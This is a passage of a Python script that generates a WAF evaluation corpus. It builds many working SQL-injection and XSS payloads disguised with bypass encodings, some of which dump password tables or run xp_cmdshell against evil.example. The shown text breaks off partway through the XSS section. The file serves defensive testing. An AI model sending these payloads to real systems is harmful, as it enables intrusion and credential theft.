#!/usr/bin/env python3
r"""Held-out HTTP test corpus: WAF-bypass techniques ("bypass" set).

What it is
    A deterministic generator of HTTP requests that carry real attacks of every
    OWASP class dressed in the evasion techniques published in WAF-bypass
    research, bug-bounty write-ups and tools (sqlmap tamper scripts,
    WAFNinja/wafw00f, GoTestWAF encoders and placeholders, PayloadsAllTheThings
    "WAF bypass" sections, Orange Tsai's URL-parser and path-normalisation
    work, PortSwigger's request-smuggling and XSS cheat-sheet research), plus
    ordinary traffic that shares their surface features.

    * attacks      326 requests (expect "detect").  Techniques: double and
                   mixed URL encoding, %-encoded and mixed-case letters,
                   overlong UTF-8 and IIS %uXXXX, full-width / small-form /
                   enclosed-alphanumeric look-alikes (NFKC), HTML / JS / CSS
                   escapes, SQL comments and versioned comments, scientific
                   notation, alternative whitespace (%0b %a0 %01-%0f /**/ # and
                   -- newlines), CHAR()/hex/concat, ASP "%S%E%L%E%C%T", GBK
                   %bf%27, shell $IFS / ${PATH:0:1} / quotes and backslashes
                   inside words / globbing / $@ / backslash-newline / variable
                   concatenation / base64|sh / printf hex / ANSI-C quoting,
                   cmd.exe carets and delayed expansion, PowerShell -enc, JS
                   without parentheses or with backticks, SVG/MathML and
                   mutation-XSS (DOMPurify-style) vectors, JSON \u escapes and
                   duplicate keys, HTTP parameter pollution (ASP.NET comma
                   joining, array syntax), payloads split across parameters,
                   payloads in header names, cookie names, JSON keys,
                   multipart filenames / RFC 5987 filename* / part headers,
                   path segments and ;path-parameters, X-Forwarded-*, Referer,
                   X-Original-URL, IBM037 / UTF-16 / UTF-7 bodies, base64
                   (SAML) and stored-ZIP (XLSX) containers, multipart header
                   case tricks, content-type confusion (JSON as text/plain,
                   XML to a JSON endpoint, form as octet-stream), chunked
                   bodies that split keywords, GET with a body, long padding
                   (60-100 KB before the payload, 600 harmless parameters
                   first), request smuggling (CL.TE, obfuscated
                   Transfer-Encoding, duplicate Content-Length, CL.0, h2c).
    * benign       403 ordinary requests (category "benign", expect "pass"):
                   encoded and double-encoded redirect targets (OAuth, SSO,
                   SAML RelayState, click tracking), double-encoded file names
                   and RFC 5987 / IE full-path upload names, multilingual
                   text (full-width Japanese, combining accents, RTL marks,
                   legacy escape() %uXXXX), Go / Python JSON with \u003c and
                   \u0027 escapes, emoji ZWJ sequences, code-like product names
                   ("Select Comfort", "Drop ALT", "C++ Primer"), math
                   expressions, apostrophes and quotes in names, inline CSS in
                   rich text, markdown with backticks, 30-90 KB bodies,
                   framework parameter styles (a[]=, filter[x][y]=, Strapi
                   $containsi, OData $filter, Rails _method), UTF-16 SOAP /
                   JSON / Excel text from Windows clients, chunked uploads,
                   method overrides, sendBeacon text/plain JSON, Shift_JIS /
                   windows-1252 / EUC-KR forms, merge tags, multi-line
                   textareas, webhooks to public hosts, directory wildcards.
                   Plus 40 "dev-content" requests (category "dev-content",
                   still "pass", counted apart): forum posts, issue comments,
                   wiki edits, gists and doc searches with SQL, shell, HTML,
                   PHP, Jinja, Log4j advisories, XML with a DTD, paths.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-bypass.py attacks > rulesets/tests/data/bypass-attacks.jsonl
    python3 scripts/corpus-bypass.py benign  > rulesets/tests/data/bypass-benign.jsonl
    python3 scripts/corpus-bypass.py stats      # counts per category and size, to stderr

Each output line is one JSON object:
    {"id": "bypass/<category>/<technique>-NNN", "set": "bypass", "category",
     "expect": "detect"|"pass", "method", "uri" (as the client sends it; raw
     oddities such as %u, overlong bytes, "|" or "${" are on purpose),
     "version": "HTTP/1.1", "headers": [[name, value], ...], "body"?: str}
or, where the bytes cannot be a UTF-8 text body (UTF-16, IBM037, binary
uploads, chunked framing, smuggling), {"id", "set", "category", "expect",
"raw_b64": base64 of the complete raw request}.  Host is always the first
header; Content-Length is the body's UTF-8 byte length, except in the
protocol/* smuggling requests, whose conflicting framing is the attack.
Benign ids are bypass/benign/<generator>-<kind>-NNN and
bypass/dev-content/devcontent-<kind>-NNN.

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight (2026-12-05, palisade-rules at e3cb774, binary /work/bin/pr-base,
built-in rules, threshold 5)
-----------------------------------------------------------------------------
Counts: 326 attacks (sqli 55, xss 51, rce 36, lfi 23, java 22, ssrf 21,
php 17, ssti 17, xxe 17, crlf 13, nosqli 13, protocol 11, rfi 11, ldapi 10,
generic 9), 443 benign (403 ordinary + 40 dev-content).  attacks 0.43 MB,
benign 0.63 MB.

PL1 (flagged = blocked at paranoia 1), run once, nothing tuned afterwards:
  attacks blocked   315/326 = 96.6 %  (100 % in generic, ldapi, lfi, nosqli,
                    php, rfi, ssti, xss; sqli 54/55, java 21/22, ssrf 20/21,
                    xxe 16/17, crlf 12/13, rce 32/36, protocol 9/11)
  benign blocked    3/403 = 0.7 % ordinary, 28/40 = 70.0 % dev-content
PL2:
  attacks blocked   318/326 = 97.5 %
  benign blocked    34/403 = 8.4 % ordinary, 33/40 = 82.5 % dev-content

Missed at PL1 (11):
  sqli/percentage-asp-024         ASP "%S%E%L%E%C%T" (IIS/ASP drops lone %)
                                  UNION SELECT; only a bad-encoding anomaly (3)
  rce/backslash-newline-015       ;ca\<LF>t /etc/pa\<LF>sswd (line continuation)
  rce/undefined-vars-020          ;cat$u /etc$u/passwd$u (empty variables)
  rce/cmd-set-call-025            cmd.exe "set x=who&& set y=ami&& call %x%%y%"
  rce/form-as-octet-stream-036    ip=127.0.0.1|id sent as application/octet-stream
  java/log4shell-part-header-010  ${jndi:ldap://...} as a multipart part's
                                  Content-Type
  ssrf/host-header-internal-019   GET /admin/ with Host: localhost:8080
                                  (routing-based SSRF)
  xxe/ibm037-body-005             XXE document encoded entirely in IBM037 (EBCDIC)
  crlf/referer-log-injection-013  %0d%0a plus a forged access-log line in Referer
  protocol/h2c-upgrade-008        h2c smuggling: Upgrade: h2c + HTTP2-Settings to /admin/
  protocol/cl0-desync-009         CL.0: POST to a static .css whose body is a
                                  second request
  (At PL2, backslash-newline-015, undefined-vars-020 and ibm037-body-005 are caught.)

Ordinary benign flagged at PL1 (3):
  benign/files-upload-046          multipart filename is an old-IE full path
                                   "C:\Users\jsmith\Documents\Invoice #4411.csv"
  benign/long-telemetry-batch-270  JSON analytics batch of 900 events (too many args)
  benign/protocol-shift-jis-form-342  Japanese contact form, charset=Shift_JIS
Ordinary benign flagged at PL2 only (31 more):
  double-encoded redirect targets and download paths (protocol-310):
    redirects-double-encoded-return-013..017, files-download-double-encoded-031..037;
  math and comparisons (sqli-212/217/219): json-escapes-go-or-ascii-escaped-111
    "A > B && C < D", math-forum-post-175 "e^(i*pi) + 1 = 0",
    math-calculator-183 "log(100) = 2", math-forum-post-184 "sqrt(16) + 4!",
    math-homework-185 "10 mod 3 = 1", math-calculator-186 "a<b && b>c";
  names: quotes-signup-199 and textarea-multiline-374 "L'Oréal Paris" (sqli-214),
    products-cart-add-168 "Bash & Lucy plush" (rce-180);
  inline CSS in rich text (xss-200/210): richtext-cms-save-225, -email-template-236,
    -cms-save-241;
  X-HTTP-Method-Override: PATCH (protocol-211): protocol-method-override-318..321;
  Strapi filters[price][$lte] (nosqli-105): params-framework-params-284;
  merge tag "${firstName}" (php-123): templates-merge-tags-361;
  webhook to webhook.site (scanner-210): webhooks-webhook-384.
Dev-content flagged at PL1: gist 5/5, issue-comment 7/8, forum-post 9/12,
wiki-edit 3/5, doc-search 4/10 (SQL, shell one-liners, <script>/onclick in
HTML samples, <?php, ${jndi: in an advisory, ../ paths, Mongo $gt, LDAP
filter, O:8:"stdClass", Runtime.getRuntime(), {{ 7*7 }}).

Generator fixes: none after first sight.  (Before the first run the attack
list was trimmed from 381 to 326 and two requests were corrected: a GET that
carried a pointless "X-HTTP-Method-Override: GET", and an IBM037 XSS body that
had encoded the "=" and "&" separators as EBCDIC, which no server splits on.)
"""

import base64
import io
import json
import random
import sys
import urllib.parse
import zipfile

SET = "bypass"

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
]
API_UAS = [
    "okhttp/4.12.0",
    "MyShop/5.2.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "axios/1.6.8",
    "Dart/3.3 (dart:io)",
    "Go-http-client/1.1",
    "Java/17.0.10",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en;q=0.6",
         "ja,en-US;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.7",
         "en-GB,en;q=0.9", "ko-KR,ko;q=0.9,en;q=0.6"]
HTML_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"

COUNTERS = {}


# --------------------------------------------------------------------------
# encoders used by both sets
# --------------------------------------------------------------------------

def Q(s, safe=""):
    """Percent-encode a UTF-8 string (space -> %20)."""
    return urllib.parse.quote(s, safe=safe)


def QP(s):
    """Form encoding (space -> +)."""
    return urllib.parse.quote_plus(s)


def form(pairs):
    return "&".join(QP(k) + "=" + QP(v) for k, v in pairs)


def query(pairs, safe=""):
    return "&".join(Q(k, safe="[]") + "=" + Q(v, safe=safe) for k, v in pairs)


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def pct_letters(s, rng, frac=0.5):
    out = []
    for ch in s:
        if ch.isalpha() and ch.isascii() and rng.random() < frac:
            out.append("%%%02x" % ord(ch) if rng.random() < 0.5 else "%%%02X" % ord(ch))
        else:
            out.append(Q(ch))
    return "".join(out)


def rcase(s, rng):
    return "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in s)


def u_enc(s, only=None):
    """IIS-style %uXXXX."""
    return "".join("%%u%04X" % ord(ch) if (only is None or ch in only) else Q(ch) for ch in s)


def overlong(s, only="<>'\"/.\\"):
    """Two-byte overlong UTF-8 for ASCII characters in `only`."""
    out = []
    for ch in s:
        if ch in only:
            o = ord(ch)
            out.append("%%%02X%%%02X" % (0xC0 | (o >> 6), 0x80 | (o & 0x3F)))
        else:
            out.append(Q(ch))
    return "".join(out)


def fullwidth(s, only=None):
    out = []
    for ch in s:
        o = ord(ch)
        if 0x21 <= o <= 0x7E and (only is None or ch in only):
            out.append(chr(o + 0xFEE0))
        else:
            out.append(ch)
    return "".join(out)


def html_dec(s):
    return "".join("&#%d;" % ord(ch) for ch in s)


def html_hex(s):
    return "".join("&#x%x;" % ord(ch) for ch in s)


def js_u(s):
    return "".join("\\u%04x" % ord(ch) for ch in s)


def ebcdic_form(s):
    return "".join("%%%02X" % b for b in s.encode("cp037"))


_U7_DIRECT = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'(),-./:? \t\r\n")


def utf7(s):
    """UTF-7 that encodes every optional-direct character (as attackers do)."""
    out, run = [], []

    def flush():
        if run:
            out.append("+" + base64.b64encode("".join(run).encode("utf-16-be")).decode().rstrip("=") + "-")
            run.clear()
    for ch in s:
        if ch in _U7_DIRECT:
            flush()
            out.append(ch)
        elif ch == "+":
            flush()
            out.append("+-")
        else:
            run.append(ch)
    flush()
    return "".join(out)


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode()


def chunked(parts):
    out = b""
    for p in parts:
        if isinstance(p, str):
            p = p.encode("utf-8")
        out += b"%x\r\n" % len(p) + p + b"\r\n"
    return out + b"0\r\n\r\n"


def boundary(rng, kind=None):
    kind = kind or rng.choice(["webkit", "firefox", "okhttp", "curl"])
    alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    if kind == "webkit":
        return "----WebKitFormBoundary" + "".join(rng.choice(alnum) for _ in range(16))
    if kind == "firefox":
        return "-" * 27 + "".join(rng.choice("0123456789") for _ in range(29))
    if kind == "okhttp":
        h = "".join(rng.choice("0123456789abcdef") for _ in range(32))
        return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])
    return "-" * 24 + "".join(rng.choice("0123456789abcdef") for _ in range(16))


def multipart(parts, bnd, nl="\r\n", preamble=None, epilogue=None):
    """parts: dicts with name, value, filename?, ctype?, disp? (full disposition
    value), dispname? (header name spelling), headers? (extra part headers)."""
    out = []
    if preamble is not None:
        out.append(preamble)
    for p in parts:
        out.append("--" + bnd)
        disp = p.get("disp")
        if disp is None:
            disp = 'form-data; name="%s"' % p["name"]
            if p.get("filename") is not None:
                disp += '; filename="%s"' % p["filename"]
        out.append("%s: %s" % (p.get("dispname", "Content-Disposition"), disp))
        if p.get("ctype"):
            out.append("Content-Type: " + p["ctype"])
        for k, v in p.get("headers", []):
            out.append("%s: %s" % (k, v))
        out.append("")
        out.append(p["value"])
    out.append("--" + bnd + "--")
    body = nl.join(out) + nl
    if epilogue is not None:
        body += epilogue
    return body


def multipart_bytes(parts, bnd):
    """Same as multipart() but values may be bytes."""
    out = b""
    for p in parts:
        out += b"--" + bnd.encode() + b"\r\n"
        disp = p.get("disp")
        if disp is None:
            disp = 'form-data; name="%s"' % p["name"]
            if p.get("filename") is not None:
                disp += '; filename="%s"' % p["filename"]
        out += ("Content-Disposition: %s\r\n" % disp).encode("utf-8")
        if p.get("ctype"):
            out += ("Content-Type: %s\r\n" % p["ctype"]).encode()
        out += b"\r\n"
        v = p["value"]
        out += (v.encode("utf-8") if isinstance(v, str) else v) + b"\r\n"
    return out + b"--" + bnd.encode() + b"--\r\n"


def stored_zip(files):
    """A deterministic ZIP (no compression, fixed timestamps)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2024, 3, 1, 9, 30, 0))
            zi.compress_type = zipfile.ZIP_STORED
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


# --------------------------------------------------------------------------
# request builder
# --------------------------------------------------------------------------

class Ctx:
    def __init__(self, name, cat, expect, hosts):
        self.rng = random.Random(name)
        self.cat = cat
        self.expect = expect
        self.hosts = hosts
        self.items = []
        self.kind = name.split("-", 1)[1]

    def _id(self, slug, cat):
        group = cat if self.expect == "detect" else ("dev-content" if cat == "dev-content" else "benign")
        key = (self.expect, group)
        COUNTERS[key] = COUNTERS.get(key, 0) + 1
        if self.expect == "pass":
            slug = self.kind + "-" + slug
        return "%s/%s/%s-%03d" % (SET, group, slug, COUNTERS[key])

    def headers(self, host, api, extra):
        names = {h[0].lower() for h in extra if len(h) == 2}
        h = [["Host", host]]
        if "user-agent" not in names:
            h.append(["User-Agent", self.rng.choice(API_UAS if api else BROWSER_UAS)])
        if "accept" not in names:
            h.append(["Accept", "application/json, text/plain, */*" if api else HTML_ACCEPT])
        if not api and "accept-language" not in names:
            h.append(["Accept-Language", self.rng.choice(LANGS)])
        h += [list(x) for x in extra]
        return h

    def req(self, slug, method, uri, headers=(), body=None, ctype=None, host=None,
            api=False, cat=None):
        cat = cat or self.cat
        host = host or self.rng.choice(self.hosts)
        h = self.headers(host, api, headers)
        if body is not None:
            if ctype:
                h.append(["Content-Type", ctype])
            if not any(k.lower() == "content-length" for k, _ in h):
                h.append(["Content-Length", str(len(body.encode("utf-8")))])
        rec = {"id": self._id(slug, cat), "set": SET, "category": cat, "expect": self.expect,
               "method": method, "uri": uri, "version": "HTTP/1.1", "headers": h}
        if body is not None:
            rec["body"] = body
        self.items.append(rec)
        return rec

    def get(self, slug, path, q="", **kw):
        return self.req(slug, kw.pop("method", "GET"), path + ("?" + q if q else ""), **kw)

    def form(self, slug, path, body, method="POST", ctype="application/x-www-form-urlencoded", **kw):
        return self.req(slug, method, path, body=body, ctype=ctype, **kw)

    def json(self, slug, path, body, method="POST", ctype="application/json", **kw):
        if not isinstance(body, str):
            body = json.dumps(body, ensure_ascii=kw.pop("ensure_ascii", False))
        kw.setdefault("api", True)
        return self.req(slug, method, path, body=body, ctype=ctype, **kw)

    def xml(self, slug, path, body, method="POST", ctype="application/xml", **kw):
        return self.req(slug, method, path, body=body, ctype=ctype, **kw)

    def mp(self, slug, path, parts, bnd=None, method="POST", ctype=None, nl="\r\n", preamble=None,
           epilogue=None, **kw):
        bnd = bnd or boundary(self.rng)
        body = multipart(parts, bnd, nl=nl, preamble=preamble, epilogue=epilogue)
        return self.req(slug, method, path, body=body,
                        ctype=ctype or ("multipart/form-data; boundary=" + bnd), **kw)

    def raw(self, slug, method, uri, headers, body=None, host=None, api=False, cat=None,
            cl=True, version="HTTP/1.1"):
        """A complete raw request (raw_b64).  A header entry of one element is
        written as a raw line."""
        cat = cat or self.cat
        host = host or self.rng.choice(self.hosts)
        hs = self.headers(host, api, headers)
        if body is not None and cl and not any(
                len(x) == 2 and x[0].lower() in ("content-length", "transfer-encoding") for x in hs):
            hs.append(["Content-Length", str(len(body))])
        data = ("%s %s %s\r\n" % (method, uri, version)).encode("utf-8")
        for x in hs:
            line = x[0] if len(x) == 1 else "%s: %s" % (x[0], x[1])
            data += line.encode("utf-8") + b"\r\n"
        data += b"\r\n"
        if body is not None:
            data += body
        rec = {"id": self._id(slug, cat), "set": SET, "category": cat, "expect": self.expect,
               "raw_b64": base64.b64encode(data).decode()}
        self.items.append(rec)
        return rec

    def rawbytes(self, slug, data, cat=None):
        cat = cat or self.cat
        rec = {"id": self._id(slug, cat), "set": SET, "category": cat, "expect": self.expect,
               "raw_b64": base64.b64encode(data).decode()}
        self.items.append(rec)
        return rec


def junk_text(rng, n):
    words = ("lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor "
             "incididunt ut labore et dolore magna aliqua enim ad minim veniam quis nostrud "
             "exercitation ullamco laboris nisi aliquip ex ea commodo consequat").split()
    out, size = [], 0
    while size < n:
        w = rng.choice(words)
        out.append(w)
        size += len(w) + 1
    return " ".join(out)[:n]


# ==========================================================================
# ATTACKS
# ==========================================================================

WEB_HOSTS = ["shop.example.com", "www.example.org", "portal.example.net", "app.example.io",
             "news.example.com", "intranet.example.co"]
API_HOSTS = ["api.example.com", "api.example.io", "gateway.example.net", "backend.example.org"]


def gen_sqli():
    c = Ctx("attacks-sqli", "sqli", "detect", WEB_HOSTS)
    r = c.rng
    g = c.get
    # --- sqlmap tamper scripts and comment / whitespace tricks -------------
    g("versioned-comment", "/products.php",
      "id=1/*!50000UNION*//*!50000SELECT*/1,2,concat(user(),0x3a,database())--+")
    g("zero-versioned", "/item.php",
      "id=7/*!00000AND*/(SELECT/**/1/**/FROM/**/(SELECT(SLEEP(5)))a)")
    g("space2comment", "/news/view.php",
      "id=-1/**/UNION/**/ALL/**/SELECT/**/NULL,username,password/**/FROM/**/users--")
    g("vtab-whitespace", "/catalog.php", "cat=3%0bUNION%0bSELECT%0busername,password%0bFROM%0busers")
    g("nbsp-whitespace", "/article.php",
      "id=-1%a0union%a0select%a0table_name,2%a0from%a0information_schema.tables")
    g("scientific-1e0", "/item.php", "id=1e0UNION%20SELECT%201,version(),3")
    c.form("scientific-1e-paren", "/account/login",
           form([("user", "' or 1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e) 1.e)=70 or'1'='2"),
                 ("pass", "x")]))
    g("pg-concat-subquery", "/search",
      "q=" + Q("x'||(SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow)||'"))
    c.json("char-function", "/api/v2/users/lookup",
           '{"id": 0, "name": "x\' UNION SELECT password,2 FROM users WHERE username=CHAR(97,100,109,105,110)-- -"}')
    g("double-urlencode", "/search",
      "q=%2527%2520UNION%2520SELECT%2520password%252C2%2520FROM%2520users--%2520")
    g("mixed-case-pct-letters", "/item.php", "id=1%20%55nIoN%20%53eLeCt%201,%40%40version,3")
    g("iis-u-encoding", "/Products.aspx",
      "name=" + u_enc("x';EXEC xp_cmdshell 'ping -n 2 evil.example'--", only="' "))
    g("overlong-quote", "/search.php",
      "q=x" + overlong("' UNION SELECT user,password FROM mysql.user-- ", only="'"))
    g("fullwidth-apostrophe", "/members.php",
      "name=admin%EF%BC%87%20OR%201=1%20UNION%20SELECT%20user(),2--%20")
    g("gbk-multibyte-quote", "/news.php",
      "id=1%bf%27%20UNION%20SELECT%201,group_concat(username,0x3a,password),3%20FROM%20admin--%20")
    g("between-blind", "/item.php",
      "id=" + Q("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1)) BETWEEN 96 AND 98"))
    g("symbolic-logical", "/item.php", "id=1%20%26%26%20(SELECT%201%20FROM%20(SELECT%20SLEEP(5))x)")
    g("comment-before-paren", "/item.php",
      "id=" + Q("1 AND (SELECT/**/1 FROM (SELECT SLEEP/**/(5))a)"))
    c.form("mssql-sp-password", "/Login.aspx",
           "txtUser=" + QP("a'; EXEC master..xp_cmdshell 'ping -n 3 evil.example'--sp_password")
           + "&txtPass=x&btnLogin=Sign+in")
    g("mssql-ctrl-blanks", "/Default.aspx",
      "id=1%02UNION%0eSELECT%0fname,2%01FROM%03sysobjects%0bWHERE%0cxtype=0x55")
    g("space2hash", "/news.php", "id=1%23kQzA%0AUNION%23pRw%0ASELECT%23x%0Auser(),2,3")
    g("odbc-braces", "/article.php", "id=" + Q("-1 union select{x table_name}from{x information_schema.tables}"))
    g("parens-no-space", "/shop/item", "id=-1'UNION(SELECT(username),(password)FROM(users))%23")
    g("percentage-asp", "/page.asp",
      "id=1%20%U%N%I%O%N%20%S%E%L%E%C%T%20%T%O%P%201%20%p%a%s%s%w%o%r%d%20%F%R%O%M%20%u%s%e%r%s")
    g("randomcase-multispace", "/list.php",
      "order=" + Q(rcase("name,(select case when (1=1) then sleep(5) else 1 end)", r)))
    g("information-schema-comment", "/news.php",
      "id=" + Q("-1 UNION SELECT 1,group_concat(column_name),3 FROM information_schema/**/.columns WHERE table_name=0x7573657273"))
    g("waitfor-tab", "/Report.aspx", "id=1;WAITFOR%09DELAY%09'0:0:5'--")
    g("mssql-hex-exec", "/Default.aspx",
      "cat=" + Q("1;DECLARE @q VARCHAR(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q);--"))
    g("pg-copy-program", "/api/export", "id=" + Q("1;CREATE TABLE t(o text);COPY t FROM PROGRAM $$id$$;--"),
      api=True, host="api.example.com")
    g("oracle-utl-inaddr", "/hr/emp", "dept=" + Q("10'||UTL_INADDR.get_host_name((SELECT user FROM dual))||'"))
    g("null-byte-prefix", "/search.php", "q=x%00%27%20UNION%20SELECT%20username,password%20FROM%20users--%20")
    c.json("json-pg-containment", "/api/products/filter",
           {"category": "shoes' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'::jsonb UNION SELECT usename,passwd FROM pg_shadow--"})
    # --- JSON / structure tricks ---------------------------------------------
    c.json("json-unicode-escape", "/api/search",
           r'{"query":"\u0027 UNION SELECT username, password FROM users-- -","page":1}')
    c.json("json-unicode-keywords", "/api/v1/orders",
           r'{"status":"open\u0027 \u0055NION \u0053ELECT card_no,cvv FROM payments-- -"}')
    c.json("json-duplicate-key", "/api/orders/search",
           '{"orderId": 1042, "orderId": "1042 OR 1=1; SELECT pg_sleep(10)--"}')
    c.json("json-key-order-by", "/api/v1/invoices/list",
           '{"page":1,"sort":{"created_at,(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)=\'a\' THEN pg_sleep(5) END)":"asc"}}')
    c.json("graphql-variable", "/graphql",
           r'{"query":"query($id: String!){ product(id: $id){ name price } }","variables":{"id":"1\u0027 UNION SELECT password,null FROM users--"}}')
    # --- parameter pollution, splitting ------------------------------------
    g("hpp-aspnet-concat", "/Catalog.aspx",
      "id=1/**/UNION/*&id=*/SELECT/*&id=*/username,password/*&id=*/FROM/*&id=*/users--")
    g("split-across-params", "/reports/sales",
      "from=2024-01-01'/*&to=*/UNION%20SELECT%20card_number,cvv,3%20FROM%20payments--%20")
    # --- unusual places ------------------------------------------------------
    g("xff-header", "/", "", headers=[["X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"]])
    g("user-agent-extractvalue", "/track/visit", "p=home",
      headers=[["User-Agent", "Mozilla/5.0' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -"]])
    g("cookie-mssql-convert", "/Default.aspx", "",
      headers=[["Cookie", "ASP.NET_SessionId=kx1d0qv2yqo3; lang=en' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"]])
    g("referer-query", "/landing", "",
      headers=[["Referer", "https://www.google.com/search?q=x' OR (SELECT 1 FROM (SELECT SLEEP(5))a)#"]])
    g("cookie-name", "/shop/cart", "",
      headers=[["Cookie", "session=9a8f7e6d; cart_item_42' UNION SELECT password FROM users-- =1"]])
    b = boundary(r)
    c.mp("multipart-filename", "/upload/avatar", [
        {"name": "user_id", "value": "1042"},
        {"name": "avatar", "filename": "me', (SELECT SLEEP(5)))-- .jpg", "ctype": "image/jpeg",
         "value": "\xff\xd8\xff\xe0JFIF"}], bnd=b)
    c.mp("multipart-case-disposition", "/search", [
        {"name": "q", "dispname": "cOnTeNt-DiSpOsItIoN", "disp": 'FoRm-DaTa; NaMe="q"',
         "value": "x' UNION SELECT username,password FROM users-- -"}])
    g("path-segment", "/api/orders/5'%20OR%20'1'='1/items", "", api=True, host="api.example.com")
    g("path-parameter", "/shop/product;id=1%20UNION%20SELECT%20password%20FROM%20users--/view", "")
    # --- charsets, bodies, protocol -------------------------------------------
    c.form("ibm037-form", "/Search.aspx",
           ebcdic_form("q") + "=" + ebcdic_form("x' UNION SELECT name, password_hash FROM sys.sql_logins--"),
           ctype="application/x-www-form-urlencoded; charset=ibm037")
    body = '{"customer":"x\' UNION SELECT username,password FROM users-- -","page":1}'
    c.raw("utf16-json", "POST", "/api/customers/search",
          [["Content-Type", "application/json; charset=utf-16"]], body.encode("utf-16"),
          host="api.example.com", api=True)
    c.raw("chunked-split-keyword", "POST", "/search.php",
          [["Content-Type", "application/x-www-form-urlencoded"], ["Transfer-Encoding", "chunked"]],
          chunked(["q=x%27+UNI", "ON+SEL", "ECT+user", "name,pass", "word+FROM+users--+"]), cl=False)
    c.form("get-with-body", "/api/products",
           "id=" + QP("1 UNION SELECT table_name,2 FROM information_schema.tables-- -"), method="GET")
    c.form("long-padding-100k", "/comments/new",
           "comment=" + QP(junk_text(r, 100_000)) + "&post_id=" + QP("7 UNION SELECT username,password,3 FROM users-- -"))
    pairs = [("f%d" % i, str(r.randint(0, 9))) for i in range(600)]
    c.get("many-params", "/catalog/list", query(pairs) + "&id=" + Q("1' AND SLEEP(5)-- -"))
    g("base64-param", "/api/v1/report", "filter=" + Q(b64("region='EU' UNION SELECT email,password_hash FROM accounts--")),
      api=True, host="api.example.com")
    return c.items


def gen_xss():
    c = Ctx("attacks-xss", "xss", "detect", WEB_HOSTS)
    r = c.rng
    g = c.get
    g("svg-slash-onload", "/search", "q=" + Q('"><svg/onload=alert(document.domain)>'))
    g("backtick-no-parens", "/search", "q=" + Q("<svg onload=alert`1`>"))
    g("entity-parens", "/search", "q=" + Q("<img src=x onerror=alert&lpar;document.cookie&rpar;>"))
    g("details-ontoggle", "/profile", "bio=" + Q("<details open ontoggle=confirm(document.cookie)>"))
    g("iframe-srcdoc-entities", "/preview", "html=" + Q('"><iframe srcdoc="&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;">'))
    c.json("tab-in-javascript-href", "/api/comments", {"post": 81, "body": '<a href="jav&#x09;ascript:alert(document.cookie)">see this</a>'})
    c.json("decimal-entities-href", "/api/comments",
           {"post": 82, "body": '<a href="' + html_dec("javascript:") + 'alert(1)">click</a>'})
    g("redirect-leading-tab", "/logout", "next=%09javascript:alert(document.domain)")
    g("redirect-crlf-in-scheme", "/login", "returnUrl=java%0d%0ascript:alert(document.cookie)")
    c.json("mxss-noscript", "/api/posts", {"title": "hi", "html": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'})
    c.json("mxss-math-mglyph", "/api/posts",
           {"title": "hello", "html": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'})
    c.form("mxss-xmp", "/forum/reply", form([("thread", "991"), ("message", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">')]))
    c.form("mxss-form-math", "/forum/reply", form([("thread", "991"), ("message",
           '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">')]))
    g("double-urlencode", "/search", "q=%253Cscript%253Ealert(document.domain)%253C%252Fscript%253E")
